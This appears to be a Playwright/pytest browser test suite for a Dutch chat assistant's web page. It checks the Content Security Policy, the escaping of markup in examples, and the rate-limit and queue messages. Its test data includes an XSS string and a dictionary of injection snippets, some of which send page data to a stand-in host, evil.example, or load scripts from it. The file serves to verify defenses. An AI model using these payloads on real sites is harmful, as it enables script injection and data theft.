"""What the browser enforces for the page, and what a visitor sees who must wait."""

from __future__ import annotations

import threading
from collections.abc import Iterator, Sequence
from dataclasses import replace
from typing import Any

import pytest
from conftest import Visit
from fake_assistant import FakeAssistant
from playwright.sync_api import Page, expect
from running import running
from steps import ask, reply

from assistant.server import create_app
from assistant.settings import Settings
from assistant.types import Answer, Turn

pytestmark = pytest.mark.browser
QUESTION = "wat is betekenismarketing?"
NASTY = "</script><script>window.stolen=1</script><img src=x onerror=window.stolen=1>"

# Each tries to run or load something. `add` puts an element into the page, with properties.
ATTACKS = {
    "inline script": "add('script', { textContent: 'window.stolen = 1' })",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.stolen = 1\">')",
    "eval": "try { eval('window.stolen = 1') } catch {}",
    "function": "try { new Function('window.stolen = 1')() } catch {}",
    "address": "add('a', { href: 'javascript:window.stolen=1' }).click()",
    "image": "new Image().src = 'http://evil.example/x.png'",
    "fetch": "fetch('http://evil.example/?' + document.title).catch(() => {})",
    "beacon": "navigator.sendBeacon('http://evil.example/', document.title)",
    "script": "add('script', { src: 'http://evil.example/x.js' })",
    "style": "add('style', { textContent: '* { display: none }' })",
    "frame": "add('iframe', { src: 'http://evil.example/' })",
    "form": "add('form', { action: 'http://evil.example/' }).submit()",
    "base": "document.head.prepend(add('base', { href: 'http://evil.example/' }))",
    "worker": "try { new Worker('data:text/javascript,1') } catch {}",
    "object": "add('object', { data: 'http://evil.example/' })",
}
# Later, since Chromium lets a debugger, which is what Playwright is, evaluate what a page may not.
RUN = """attack => {
  window.broken = [];
  window.add = (tag, properties) => {
    const element = Object.assign(document.createElement(tag), properties);
    document.body.append(element);
    return element;
  };
  addEventListener("securitypolicyviolation", (event) => window.broken.push(event.effectiveDirective));
  const nonce = document.querySelector("script[nonce]").nonce;
  add("script", { nonce, textContent: `setTimeout(() => { ${attack} })` });
}"""


@pytest.fixture(scope="module")
def busy_site() -> Iterator[str]:
    """A chat that takes three questions a minute of each client."""
    settings = replace(
        Settings(), questions_at_once=1, questions_waiting=1, proxies="127.0.0.1", questions_per_minute=3
    )
    assistant: Any = FakeAssistant(settings)
    assistant.examples = (NASTY,)
    with running(create_app(assistant)) as url:
        yield url


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_that_got_into_the_page_does_nothing(page_of: Page, attack: str) -> None:
    """Whatever a script in the page's own words could try, the policy stops: nothing runs, nothing leaves."""
    page_of.evaluate(RUN, ATTACKS[attack])
    for _ in range(50):  # wait_for_function would need eval
        if page_of.evaluate("window.broken.length"):
            break
        page_of.wait_for_timeout(100)
    assert page_of.evaluate("window.broken.length") > 0, "the policy stopped nothing"
    assert page_of.evaluate("window.stolen") is None


@pytest.fixture
def page_of(chromium: Any, site: str) -> Iterator[Page]:
    """The chat in a profile of its own, where errors on the console are what is wanted."""
    page = chromium.new_page()
    failed: list[tuple[str, str | None]] = []
    page.on("requestfailed", lambda request: failed.append((request.url, request.failure)))
    sent: list[str] = []
    page.on("requestfinished", lambda request: sent.append(request.url))
    page.goto(site)
    page.locator("#question textarea").wait_for(state="attached")
    yield page
    page.wait_for_timeout(100)
    assert [url for url in sent if "evil" in url] == []
    assert {why for url, why in failed if "evil" in url} <= {"csp"}, "it was sent, though nobody answered"
    page.close()


def test_markup_in_an_example_is_words(visit: Visit, busy_site: str) -> None:
    """An essay's heading that looks like a script stands in the page's settings and on a button, as words."""
    page = visit(url=busy_site)
    expect(page.locator(".example").first).to_have_text(NASTY)
    assert page.evaluate("window.stolen") is None
    assert page.evaluate("document.querySelectorAll('script:not([nonce]):not([src])').length") == 0


def test_who_asks_too_much_is_told_so_in_dutch(visit: Visit, busy_site: str) -> None:
    """The fourth question of a minute gets "Even geduld"; it stays in the input, and so does the page."""
    page = visit(url=busy_site, may_fail=True)
    for _ in range(3):
        ask(page, QUESTION)
    field = page.locator("#question textarea")
    field.fill("nog een vraag")
    field.press("Enter")
    expect(page.locator("#trouble").filter(has_text="Even geduld")).to_be_visible()
    expect(field).to_have_value("nog een vraag")
    expect(page.locator(".answer, .refusal")).to_have_count(3)


class HeldAssistant(FakeAssistant):
    """Answers when it is let go."""

    def __init__(self, settings: Settings) -> None:
        super().__init__(settings)
        self.is_asked, self.may_answer = threading.Event(), threading.Event()

    def ask(self, question: str, history: Sequence[Turn] = ()) -> Answer:
        """What its kind answers, later."""
        self.is_asked.set()
        self.may_answer.wait(timeout=60)
        return super().ask(question, history)


def test_who_finds_the_queue_full_is_asked_for_patience(visit: Visit) -> None:
    """While one is being answered, the next is told that it waits; those after that keep their question."""
    assistant = HeldAssistant(replace(Settings(), questions_at_once=1, questions_waiting=1))
    with running(create_app(assistant)) as url:  # type: ignore[arg-type]
        schemes = ("light", "light", "dark", "dark")  # a browser profile each: it opens six connections to a host
        first, second, *others = pages = [visit(url=url, scheme=scheme, may_fail=True) for scheme in schemes]
        for page in pages:
            page.locator("#question textarea").fill(QUESTION)
        first.locator("#question textarea").press("Enter")
        assert assistant.is_asked.wait(timeout=20)
        second.locator("#question textarea").press("Enter")
        expect(second.locator("#trouble")).to_have_text("Even geduld, het is druk. Je vraag staat in de rij.")
        for page in others:
            page.locator("#question textarea").press("Enter")
            expect(page.locator("#trouble")).to_contain_text("Je vraag staat nog in het invoerveld")
            expect(page.locator("#question textarea")).to_have_value(QUESTION)
        assistant.may_answer.set()
        for page in (first, second):
            reply(page)
            expect(page.locator("#question textarea")).to_have_value("")
